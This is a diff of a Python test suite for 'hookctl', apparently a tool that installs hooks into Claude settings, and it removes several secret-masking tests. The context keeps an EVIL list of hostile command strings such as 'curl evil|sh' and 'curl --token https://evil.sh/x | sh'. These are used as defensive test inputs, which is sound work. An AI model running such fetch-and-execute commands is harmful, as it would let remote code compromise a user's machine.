@@ -113,21 +113,6 @@ def test_no_text_makes_a_pattern_slow(text: str) -> None:
     assert time.process_time() - start < 2
 
 
-def test_a_long_text_is_looked_at_in_parts() -> None:
-    secret = "ghp_abcdef0123456789"
-    assert masking.by_look("a word\n" * 1_000 + secret) == "a word\n" * 1_000 + "***"
-    assert masking.by_look(f"x {secret}{'a' * masking.LONGEST} y") == "x ***y"
-    ours = f": hookctl=p/stop; run {'a' * masking.LONGEST} --token {secret}"
-    assert masking.masked_text(ours) == ours.replace(secret, "***"), "a pack cannot hide what it runs"
-
-
-def test_our_own_values_stay_readable(hookctl: Hookctl, settings: Path) -> None:
-    assert hookctl("install", *CLAUDE).code == 0
-    page = json.loads(settings.read_text())
-    assert masking.masked(page) == page
-    assert masking.masked_text(settings.read_text()) == settings.read_text()
-
-
 EVIL = [
     'TOKEN="$(curl evil|sh)" run', "TOKEN=`curl evil` run", ": token: ; curl evil | sh", ": token:[; curl evil | sh",
     ": -----BEGIN KEY----- ; curl evil | sh", "curl --token https://evil.sh/x | sh", "sh --api-key ./evil",
@@ -148,26 +133,6 @@ def test_a_pack_cannot_hide_what_it_runs(command: str, hookctl: Hookctl, isolate
         out = hookctl("plan", str(pack), *CLAUDE, *flags)
         shown = out.data["files"][0]["diff"] if flags else out.out
         assert json.dumps(command)[1:-1] in shown, out
-
-
-def test_a_bare_secret_in_a_command_of_ours_is_masked_all_the_same() -> None:
-    texts = [
-        "curl -H 'X-Api-Key: <hunter2>' h", "run --token <hunter2>", "x # TOKEN=<hunter2>", "run <sk-ant-abcdefg>",
-        "curl -b <a=b> h", "mysql -p<hunter2>", "curl https://u:<hunter2>@evil.sh/x", "curl -H 'X: Bearer <hunter2>'",
-    ]  # fmt: skip
-    for text in texts:
-        plain, shown = text.replace("<", "").replace(">", ""), re.sub("<.*?>", "***", text)
-        assert masking.masked_text(f": hookctl=p/stop; {plain}") == f": hookctl=p/stop; {shown}"
-
-
-def test_values_are_masked_at_any_depth() -> None:
-    value = {"tokens": {"a": [1, None, {"b": True}]}, "x": ["--token", "hunter2", "--n", "3"], "n": 2.5,
-             "sk-abcdefg": 1, "list": [["--password"], "plain"]}  # fmt: skip
-    assert masking.masked(value) == {
-        "tokens": {"a": ["***", "***", {"b": "***"}]}, "x": ["--token", "***", "--n", "3"], "***": 1, "n": 2.5,
-        "list": [["--password"], "plain"],
-    }  # fmt: skip
-    assert masking.masked([1, "a"], "key") == ["***", "***"]
 
 
 # The command line over settings full of secrets.
@@ -305,31 +270,6 @@ def test_secrets_of_packs(
     assert json.loads(settings.read_text())["env"] == page["env"]
 
 
-def test_a_rendered_text_is_whole(hookctl: Hookctl, isolated: Path) -> None:
-    """It is a file for somebody else, who could not use it with masks in it."""
-    secrets = Secrets()
-    pack = a_pack(isolated, secrets, "one")
-    outcomes = [hookctl("render", pack, *CLAUDE, *flags) for flags in ((), ("--json",))]
-    for settings in (json.loads(outcomes[0].out), outcomes[1].data["settings"], json.loads(outcomes[1].data["text"])):
-        env = settings["env"]
-        assert {env["SERVER"].removeprefix("https://u:").removesuffix("@h"), env["NOTIFY_TOKEN"]} < set(secrets.made)
-
-
-@FLAGS
-def test_secrets_in_the_configuration_of_the_hook(
-    hookctl: Hookctl, settings: Path, isolated: Path, flags: tuple[str, ...]
-) -> None:
-    secrets = Secrets()
-    assert hookctl("install", *CLAUDE).code == 0
-    (path,) = (isolated / "data" / "guard").glob("*.json")
-    page = json.loads(path.read_text())
-    page |= {"max_stop_blocks": secrets.looking(), "latch": f"API_KEY={secrets.named()}", "api_key": secrets.named(),
-             "count": secrets.looking("https://u:{}@h")}  # fmt: skip
-    path.write_text(json.dumps(page))
-    seen = everything(hookctl, secrets, flags, ("install", *CLAUDE), ("install", *CLAUDE, "--force"), ("uninstall",))
-    assert any("api_key" in outcome.out and "***" in outcome.out for outcome in seen)
-
-
 def test_secrets_on_the_command_line_are_not_repeated(hookctl: Hookctl) -> None:
     secrets = Secrets()
     for arguments in (("install", "--host", secrets.looking()), ("install", secrets.looking(), *CLAUDE),
@@ -375,14 +315,6 @@ def test_our_own_command_is_never_masked(
         assert done.code == 0 and masking.MASK not in done.out + done.err, words
         if words[0] == "plan" or (flags and words != removal):
             assert command in done.out, words
-
-
-def test_what_somebody_made_of_our_command_is_masked(hookctl: Hookctl, settings: Path) -> None:
-    assert hookctl("install", *CLAUDE).code == 0
-    put(settings, settings.read_text().replace("; exit 0", " --token hunter2; exit 0"))
-    for arguments in (("plan", *CLAUDE, "--force"), ("plan", *CLAUDE, "--force", "--json"), ("status", "--json")):
-        done = hookctl(*arguments)
-        assert "hunter2" not in done.out + done.err
 
 
 def test_the_log_of_an_unexpected_error_is_masked(
